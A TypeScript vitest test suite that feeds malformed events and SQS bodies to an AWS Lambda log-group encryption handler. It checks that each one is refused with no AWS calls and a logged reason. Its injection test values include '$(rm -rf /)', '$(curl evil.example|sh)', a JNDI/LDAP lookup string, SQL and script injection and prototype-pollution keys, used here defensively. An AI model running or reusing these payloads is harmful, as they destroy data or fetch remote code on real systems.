/**
 * Reliability suite: the enforce handler (functions/enforce.ts) in-process, fed fast-check-generated and
 * hand-written malformed events and SQS bodies, aws-sdk-client-mock counting its AWS calls (300 generated;
 * 5,000 with RELIABILITY_FULL=1).
 *
 * Promise: malformed input of any shape costs zero AWS calls, never crashes, and leaves a logged reason.
 */
import { CloudWatchLogsClient } from '@aws-sdk/client-cloudwatch-logs';
import { KMSClient } from '@aws-sdk/client-kms';
import type { Context } from 'aws-lambda';
import { mockClient } from 'aws-sdk-client-mock';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { FUNCTION_ARN, loadEvent } from '../helpers.ts';

const kms = mockClient(KMSClient);
const logs = mockClient(CloudWatchLogsClient);
const FULL = process.env.RELIABILITY_FULL === '1';
const RUNS = FULL ? 5_000 : 300;

const context = {
  invokedFunctionArn: FUNCTION_ARN,
  functionName: 'f',
  awsRequestId: 'r',
  getRemainingTimeInMillis: () => 30_000,
} as unknown as Context;

const base = loadEvent('create-log-group-ecs-cli.json');
const clone = () => structuredClone(base);
const illegalName = fc.oneof(
  fc.constant(''),
  fc.string({ minLength: 513, maxLength: 2_000 }).map((s) => `/${'a'.repeat(513)}${s}`),
  fc.string({ minLength: 1, maxLength: 40 }).filter((s) => !/^[.\-_/#A-Za-z0-9]{1,512}$/.test(s)),
  fc.constantFrom(
    "'; DROP TABLE log_groups; --",
    '$(rm -rf /)',
    '<script>alert(1)</script>',
    '{{7*7}}',
    '/aws/lambda/x\u0000y',
    '/aws/lambda/\u202eevil',
    '%2Faws%2Flambda',
    'arn:aws:logs:us-east-1:123456789012:log-group:/x',
  ),
  fc.anything().filter((v) => typeof v !== 'string'),
);
const notOurs = fc.oneof(
  fc.constantFrom('aws.s3', 'aws.kms', '', 'custom.app'),
  fc.anything().filter((v) => v !== 'aws.logs'),
);
const otherAccount = fc.stringMatching(/^\d{12}$/).filter((a) => a !== '123456789012');
const otherRegion = fc.constantFrom(
  'eu-west-1',
  'ap-south-1',
  'us-gov-west-1',
  'cn-north-1',
  'mars-1',
  'US-EAST-1',
);

/** Generators, each of which yields an event the guard must refuse without an AWS call. */
const badEvents: fc.Arbitrary<unknown> = fc.oneof(
  fc.anything().filter((v) => !(v && typeof v === 'object' && 'Records' in v)),
  illegalName.map((name) => {
    const e = clone();
    e.detail.requestParameters.logGroupName = name;
    return e;
  }),
  notOurs.map((source) => ({ ...clone(), source })),
  fc.anything().map((dt) => ({ ...clone(), 'detail-type': dt === 'AWS API Call via CloudTrail' ? 'x' : dt })),
  fc
    .constantFrom('PutRetentionPolicy', 'DeleteLogGroup', 'createloggroup', 'CreateLogStream')
    .map((eventName) => {
      const e = clone();
      e.detail.eventName = eventName;
      return e;
    }),
  otherAccount.map((account) => {
    const e = clone();
    e.account = account;
    e.detail.recipientAccountId = account;
    return e;
  }),
  otherRegion.map((region) => {
    const e = clone();
    e.region = region;
    e.detail.awsRegion = region;
    return e;
  }),
  fc.string().map((errorCode) => {
    const e = clone();
    e.detail.errorCode = errorCode || 'AccessDenied';
    return e;
  }),
  fc.anything().map((detail) => ({ ...clone(), detail: typeof detail === 'object' ? detail : { detail } })),
  fc.anything().map((requestParameters) => {
    const e = clone();
    e.detail.requestParameters =
      requestParameters && typeof requestParameters === 'object' && !Array.isArray(requestParameters)
        ? { ...requestParameters, logGroupName: 42 }
        : requestParameters;
    return e;
  }),
  fc.dictionary(fc.string(), fc.anything()).map((tags) => {
    const e = clone();
    e.detail.requestParameters.tags = { ...tags, bad: 7 };
    return e;
  }),
);

/** Hand-written cases, each checked on its own (the generators above only sample their constants). */
const ACCT = '999999999999';
const handWritten: [string, () => unknown][] = [
  ['null', () => null],
  ['a number', () => 42],
  ['a string', () => 'CreateLogGroup'],
  ['an array of events', () => [clone()]],
  ['an empty object', () => ({})],
  ['detail is a string', () => patch({ detail: 'x' })],
  ['detail is null', () => patch({ detail: null })],
  ['requestParameters missing', () => patch({ 'detail.requestParameters': undefined })],
  ['requestParameters null', () => patch({ 'detail.requestParameters': null })],
  ['logGroupName missing', () => name(undefined)],
  ['logGroupName a number', () => name(7)],
  ['logGroupName an array', () => name(['/a', '/b'])],
  ['logGroupName an object', () => name({ toString: '/x' })],
  ['logGroupName empty', () => name('')],
  ['logGroupName 513 characters', () => name(`/${'a'.repeat(512)}`)],
  ['logGroupName 5 MB', () => name(`/${'a'.repeat(5_000_000)}`)],
  ['logGroupName with a space', () => name('/aws/lambda/my function')],
  ['logGroupName with a colon', () => name('/aws/lambda/x:y')],
  ['logGroupName with a NUL byte', () => name('/aws/lambda/x\u0000y')],
  [
    'logGroupName with a newline (log injection)',
    () => name('/ok\n{"level":"INFO","message":"decision","outcome":"encrypted"}'),
  ],
  ['logGroupName with right-to-left override', () => name('/aws/lambda/\u202eevil')],
  ['logGroupName SQL injection', () => name("'; DROP TABLE log_groups; --")],
  ['logGroupName shell injection', () => name('$(curl evil.example|sh)')],
  ['logGroupName template injection', () => name(`$\{jndi:ldap://evil.example/a}`)],
  ['logGroupName HTML', () => name('<script>alert(1)</script>')],
  ['logGroupName percent-encoded', () => name('%2Faws%2Flambda%2Fx')],
  ['logGroupName an ARN', () => name('arn:aws:logs:us-east-1:123456789012:log-group:/x')],
  ['logGroupName with emoji', () => name('/aws/lambda/\u{1F525}')],
  ['other account', () => patch({ account: ACCT, 'detail.recipientAccountId': ACCT })],
  ['account mismatch inside the event', () => patch({ 'detail.recipientAccountId': ACCT })],
  ['other region', () => patch({ region: 'eu-west-1', 'detail.awsRegion': 'eu-west-1' })],
  ['region mismatch inside the event', () => patch({ 'detail.awsRegion': 'eu-west-1' })],
  ['region in upper case', () => patch({ region: 'US-EAST-1', 'detail.awsRegion': 'US-EAST-1' })],
  ['source aws.kms', () => patch({ source: 'aws.kms' })],
  ['source with a trailing space', () => patch({ source: 'aws.logs ' })],
  ['detail-type wrong', () => patch({ 'detail-type': 'Scheduled Event' })],
  ['eventName DeleteLogGroup', () => patch({ 'detail.eventName': 'DeleteLogGroup' })],
  ['eventSource wrong', () => patch({ 'detail.eventSource': 'kms.amazonaws.com' })],
  ['failed call (errorCode)', () => patch({ 'detail.errorCode': 'ResourceAlreadyExistsException' })],
  ['tags not an object', () => patch({ 'detail.requestParameters.tags': 'team=x' })],
  ['tag value a number', () => patch({ 'detail.requestParameters.tags': { team: 7 } })],
  ['kmsKeyId a number', () => patch({ 'detail.requestParameters.kmsKeyId': 12 })],
  [
    'prototype pollution keys',
    () =>
      JSON.parse(
        '{"__proto__":{"polluted":true},"source":"aws.logs","detail":{"constructor":{"prototype":{"x":1}}}}',
      ),
  ],
  ['deeply nested', () => JSON.parse(`${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`)],
];
/** A copy of the base event with dotted paths set (`undefined` deletes). */
function patch(changes: Record<string, unknown>) {
  const e = clone();
  for (const [path, value] of Object.entries(changes)) {
    const keys = path.split('.');
    const last = keys.pop() as string;
    const parent = keys.reduce((o, k) => o[k], e as Record<string, any>);
    if (value === undefined) delete parent[last];
    else parent[last] = value;
  }
  return e;
}
function name(value: unknown) {
  return patch({ 'detail.requestParameters.logGroupName': value });
}

describe('bad input', () => {
  let handler: (event: unknown, ctx: Context) => Promise<{ outcome: string; reason: string }>;
  let checked = 0;
  let logged = 0;
  const output: string[] = [];
  const keep = (chunk: unknown) => {
    output.push(String(chunk));
    return true;
  };
  /** The decision lines written since `from`, parsed. */
  const decisionsSince = (from: number) =>
    output
      .slice(from)
      .join('')
      .split('\n')
      .flatMap((l) => {
        try {
          const d = JSON.parse(l);
          return d.message === 'decision' ? [d] : [];
        } catch {
          return [];
        }
      });
  /** Runs one event: no throw, a refusal with a reason, that reason in the log, and no AWS call. */
  const refuse = async (event: unknown) => {
    const before = kms.calls().length + logs.calls().length;
    const at = output.length;
    const result = await handler(event, context);
    expect(['rejected-input', 'ignored-failed-call']).toContain(result.outcome);
    expect(result.reason.length).toBeGreaterThan(5);
    expect(kms.calls().length + logs.calls().length - before).toBe(0);
    const lines = decisionsSince(at);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatchObject({ outcome: result.outcome, reason: result.reason });
    logged++;
    return { result, line: JSON.stringify(lines[0]) };
  };

  beforeAll(async () => {
    vi.stubEnv('AWS_REGION', 'us-east-1');
    vi.stubEnv('POWERTOOLS_LOG_LEVEL', 'INFO');
    vi.spyOn(process.stdout, 'write').mockImplementation(keep as never);
    vi.spyOn(console, 'warn').mockImplementation(() => undefined);
    vi.spyOn(process.stderr, 'write').mockImplementation(keep as never);
    handler = (await import('../../functions/enforce.ts')).handler as never;
  });
  afterAll(() => {
    vi.restoreAllMocks();
    vi.unstubAllEnvs();
    console.log(
      `bad input: ${checked} generated + ${handWritten.length} hand-written malformed events refused, ` +
        `${logged} logged with their reason, AWS calls made: ${kms.calls().length + logs.calls().length}`,
    );
  });

  it(`refuses ${RUNS} generated malformed events with zero AWS calls and a logged reason`, async () => {
    await fc.assert(
      fc.asyncProperty(badEvents, async (event) => {
        checked++;
        await refuse(event);
      }),
      { numRuns: RUNS },
    );
  });

  it.each(handWritten)('refuses %s with zero AWS calls and a logged reason', async (_label, make) => {
    // Act
    const { line } = await refuse(make());

    // Assess: exactly one decision line (refuse() checks it: a name with a newline forges none), and short
    expect(line.length).toBeLessThan(2_000);
  });

  it('refuses a huge payload quickly and with a short log line', async () => {
    const e = clone();
    e.detail.requestParameters.logGroupName = `/x/${'y'.repeat(5_000_000)}`;
    const result = await handler(e, context);
    expect(result.outcome).toBe('rejected-input');
    expect(JSON.stringify(result).length).toBeLessThan(2_000);
    expect(kms.calls().length + logs.calls().length).toBe(0);
  });

  it('rejects malformed SQS bodies without failing the batch', async () => {
    const template = loadEvent('sqs-batch-two-events.json').Records[0];
    const bodies = [
      '',
      'null',
      '[]',
      '{"source":"aws.logs"}',
      'x'.repeat(300_000),
      '{"detail":',
      JSON.stringify({ Records: [] }),
    ];
    const event = { Records: bodies.map((body, i) => ({ ...template, messageId: `m${i}`, body })) };
    const result = (await handler(event, context)) as unknown as { batchItemFailures: unknown[] };
    expect(result.batchItemFailures).toEqual([]);
    expect(kms.calls().length + logs.calls().length).toBe(0);
  });
});
